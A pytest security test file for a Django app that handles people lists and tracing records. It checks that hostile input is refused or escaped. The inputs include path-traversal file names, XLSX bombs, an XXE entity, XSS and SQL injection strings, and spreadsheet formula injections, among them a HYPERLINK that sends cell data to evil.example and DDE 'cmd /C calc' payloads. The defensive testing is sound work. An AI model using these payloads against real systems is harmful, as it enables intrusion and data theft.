"""What enemies send: each is refused, or shown as the text that it is."""

import csv
import io
import re
from pathlib import Path

import openpyxl
import pytest
from django.test import Client
from django.utils.html import escape
from lists.conftest import PARTS, write_xlsx, xml_cell
from office.tracing.invented import proposed

from kintrace.lists import safe_cell
from kintrace.office import files
from kintrace.office.home import home
from kintrace.office.tracing import pair_actions, record_actions
from kintrace.office.tracing.models import PeopleList, Record, RejectedCell

SCRIPT = "<script>alert('a')</script>"
IMAGE = '"><img src=x onerror=alert(1)>'
ENGLISH = {"accept-language": "en"}


def seen(client_of, by, *addresses):
    return "\n".join(client_of(by).get(address, headers=ENGLISH).content.decode() for address in addresses)


def escaped() -> set[Path]:
    """Whatever such a name may have led to: in the office's folder, or in one above it."""
    folder = home().folder
    above = {path for place in folder.parents for path in place.glob("*escaped*")}
    return above | set(folder.rglob("*escaped*"))


@pytest.mark.parametrize(
    "name",
    [
        "../../escaped.csv",
        "..\\..\\escaped.csv",
        "/tmp/escaped.csv",
        "C:\\escaped.csv",
        "....//escaped.csv",
        "CON",
    ],
)
def test_a_file_name_is_never_a_path(member, uploaded, name):
    before = escaped()
    by = member()
    assert uploaded(by, called=name).status_code == 302
    one = PeopleList.objects.get()
    assert files.kept(one.sha256)
    assert escaped() == before
    assert {len(path.name) for path in home().files.iterdir()} == {64}


def test_a_file_without_a_name_is_no_file(member, uploaded):
    assert uploaded(member(), called="..").status_code == 200
    assert PeopleList.objects.count() == 0


def test_a_file_name_cannot_add_a_header(member, imported, client_of):
    by = member()
    one = imported(by, file_name='a"\r\nSet-Cookie: x=1; filename="b.html')
    answer = client_of(by).get(f"/lists/{one.id}/file/")
    assert "x" not in answer.cookies
    assert answer["Content-Disposition"].startswith("attachment; ")


def test_a_sheet_that_would_fill_the_memory_is_refused(member, uploaded, tmp_path):
    rows = [f'<row r="1">{xml_cell("A1", "ПІБ")}</row><row r="1048576">{xml_cell("XFD1048576", "x")}</row>']
    bomb = write_xlsx(tmp_path / "bomb.xlsx", rows)
    answer = uploaded(member(), bomb.read_bytes(), "bomb.xlsx")
    text = answer.content.decode()
    assert answer.status_code == 200
    assert "bomb.xlsx" in text
    assert "memory" in text
    assert PeopleList.objects.count() == 0


def test_a_sheet_that_unpacks_to_a_thousand_times_its_size_is_refused(member, uploaded, tmp_path):
    rows = (f'<row r="{row}">{xml_cell(f"A{row}", "x" * 30_000)}</row>' for row in range(1, 3_000))
    bomb = write_xlsx(tmp_path / "bomb.xlsx", rows)
    text = uploaded(member(), bomb.read_bytes(), "bomb.xlsx").content.decode()
    assert "more than any list of people" in text
    assert PeopleList.objects.count() == 0


def test_an_external_entity_is_not_fetched(member, uploaded, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("the secret of the house")
    workbook = PARTS["xl/workbook.xml"].replace('name="S"', 'name="&e;"')
    entity = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{secret.as_uri()}">]>'
    rows = [f'<row r="1">{xml_cell("A1", "ПІБ")}</row><row r="2">{xml_cell("A2", "&e;Коваль")}</row>']
    parts = [
        ("xl/sharedStrings.xml", f"{entity}<sst><si><t>&e;</t></si></sst>"),
        ("docProps/app.xml", entity),
    ]
    path = write_xlsx(tmp_path / "entity.xlsx", rows, [*parts, ("xl/workbook2.xml", entity + workbook)])
    answer = uploaded(member(), path.read_bytes(), "entity.xlsx", follow=True)
    assert answer.status_code in (200, 302)
    assert "the secret of the house" not in answer.content.decode()
    for one in PeopleList.objects.all():
        assert "the secret of the house" not in str(one.mapping) + str(one.notes)


def test_scripts_in_lists_are_shown_as_text(member, uploaded, client_of):
    by = member()
    raw = f'ПІБ,"{SCRIPT}"\n"Коваль {SCRIPT}","{SCRIPT}"\n'
    uploaded(by, raw, f"{SCRIPT}.csv", name=SCRIPT, source=SCRIPT, legal_basis=SCRIPT)
    one = PeopleList.objects.get()
    text = seen(client_of, by, "/lists/", f"/lists/{one.id}/", f"/lists/{one.id}/columns/")
    assert "<script>alert" not in text
    assert text.count(escape(SCRIPT)) >= 6
    refused = uploaded(by, b"%PDF-1.7", f"{IMAGE}.pdf").content.decode()
    assert "<img src=x" not in refused


def test_scripts_in_records_are_shown_as_text(member, another, client_of, entered):
    by = member()
    said = {"consent": IMAGE, "inquirer": SCRIPT, "family": IMAGE}
    one = entered(by, name=f"Коваль Іван {SCRIPT}", name_2=IMAGE, place=SCRIPT, mother=IMAGE, said=said)
    record_actions.note_sighting(by=by, number=one.id, said=SCRIPT, who_said=IMAGE)
    one = record_actions.correct(
        by=by, number=one.id, people={"father": SCRIPT}, why='"><img src=x onerror=go()>'
    )
    tails = ("", "correct/", "share/", "sighting/")
    text = seen(client_of, by, *(f"/records/{one.id}/{tail}" for tail in tails), "/records/?q=Коваль")
    assert "<script>alert" not in text
    assert "<img src=x" not in text
    assert text.count(escape(SCRIPT)) >= 5


def test_a_script_in_a_search_is_shown_as_text(member, client_of):
    text = seen(client_of, member(), f"/records/?q={SCRIPT}", f"/records/?q={IMAGE}")
    assert "<script>alert" not in text
    assert "<img src=x" not in text


@pytest.mark.parametrize(
    "query", ["Коваль' OR '1'='1", "Коваль%' --", 'Коваль"; DROP TABLE tracing_record; --', "Коваль\\"]
)
def test_a_search_is_never_sql(member, another, client_of, entered, query):
    entered(member(), name="Коваль Іван")
    answer = client_of(another).get("/records/", {"q": query})
    assert answer.status_code == 200
    assert "Коваль Іван" not in answer.content.decode()
    assert Record.objects.count() == 1


@pytest.mark.parametrize(
    "query", ["\x00\x00ab", "a" * 5000, "🙂🙂", "\u202eab", "ا" * 200, "Ко" * 100, "- - a - b"]
)
def test_any_search_is_answered(member, client_of, query):
    assert client_of(member()).get("/records/", {"q": query}).status_code == 200


@pytest.mark.parametrize("number", ["-1", "0", "x", "999999999999999999999", "1e3", "'", ""])
def test_any_page_number_is_answered(member, imported, client_of, number):
    by = member()
    one = imported(by)
    for address in ("/lists/", f"/lists/{one.id}/rejected/"):
        assert client_of(by).get(address, {"page": number}).status_code == 200


def test_a_form_from_another_site_is_refused(member, client_of):
    by = member()
    strict = Client(enforce_csrf_checks=True)
    strict.cookies = client_of(by).cookies
    for address in ("/lists/new/", "/lists/1/cancel/", "/records/new/"):
        assert strict.post(address, {"name": "x"}).status_code == 403


def test_a_photo_address_never_runs_as_a_page(member, client_of, entered):
    import io

    from PIL import Image

    raw = io.BytesIO()
    Image.new("RGB", (9, 9)).save(raw, "JPEG", comment=SCRIPT.encode())
    by = member()
    one = entered(by, photo=io.BytesIO(raw.getvalue()))
    answer = client_of(by).get(f"/records/{one.id}/photo/")
    content = b"".join(answer.streaming_content)
    assert SCRIPT.encode() not in content
    assert (answer["Content-Type"], answer["X-Content-Type-Options"]) == ("image/jpeg", "nosniff")
    assert "default-src 'none'" in answer["Content-Security-Policy"]


def test_no_page_of_ours_runs_scripts_of_its_own(member, imported, client_of):
    by = member()
    one = imported(by)
    record = Record.objects.first()
    text = seen(client_of, by, "/lists/", f"/lists/{one.id}/", "/records/new/", f"/records/{record.id}/")
    assert re.findall(r"<script(?![^>]*src=)|\son\w+=|style=", text) == []


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1;"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "＠SUM(1)",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "шрам; =1+1",
]
RUNS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def cells(answer, delimiter=","):
    text = b"".join(answer.streaming_content).decode("utf-8-sig")
    read = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    return [cell for row in read for cell in row]


def runs(cell):
    """Whether a spreadsheet would take a cell for a formula; the office's own numbers are numbers."""
    begun = cell.lstrip(" \u00a0\u3000\ufeff\u200b")
    return begun.startswith(RUNS) and not re.fullmatch(r"-\d+(\.\d+)?", cell)


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_decisions_taken_out_runs(member, client_of, formula):
    by = member(name=formula)
    pair = proposed(by, name=formula, number=formula)
    PeopleList.objects.update(name=formula)
    word = pair_actions.Word("same", "details_agree", formula, None)
    pair_actions.decide(by=by, number=pair.id, word=word)
    for delimiter in (",", ";", "\t"):
        found = cells(client_of(by).get("/pairs/decided.csv"), delimiter)
        assert [cell for cell in found if runs(cell)] == []
    found = cells(client_of(by).get("/pairs/decided.csv"))
    assert found.count(safe_cell(formula)) >= 7  # names of list, record and member, numbers


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_what_could_not_be_read_runs_be_it_the_file_name(member, imported, client_of, formula):
    by = member()
    written = formula.replace('"', '""')
    raw = f'№,ПІБ,"{written} народження"\n1,Коваль Іван,"{written}"\n2,Бондар Яна,01.02.2014\n'
    columns = {"id": ["№"], "name": ["ПІБ"]}
    one = imported(by, raw, columns=columns, file_name=f"{formula}.csv", name=formula)
    RejectedCell.objects.create(list=one, row=1, column=formula, value=formula, why="not a date")
    answer = client_of(by).get(f"/lists/{one.id}/rejected.csv")
    assert answer["Content-Disposition"] == f'attachment; filename="rejected-{one.id}.csv"'
    found = cells(answer)
    assert [cell for cell in found if runs(cell)] == []
    assert found.count(safe_cell(formula)) == 2


@pytest.mark.parametrize("formula", FORMULAS)
def test_whatever_reads_a_sheet_back_and_saves_it_finds_text(member, client_of, formula, tmp_path):
    """What openpyxl makes of a cell is what a spreadsheet would: "f" is a formula, "s" text."""
    by = member(name=formula)
    pair = proposed(by)
    pair_actions.decide(by=by, number=pair.id, word=pair_actions.Word("same", "photo", "", None))
    book = openpyxl.Workbook()
    for place, cell in enumerate(cells(client_of(by).get("/pairs/decided.csv")), 1):
        book.active.cell(row=1, column=place, value=cell)
    book.save(tmp_path / "back.xlsx")
    row = openpyxl.load_workbook(tmp_path / "back.xlsx").active[1]
    assert {cell.data_type for cell in row} <= {"s", "inlineStr", "n"}
    assert [cell.value for cell in row if cell.data_type == "n" and cell.value is not None] == []
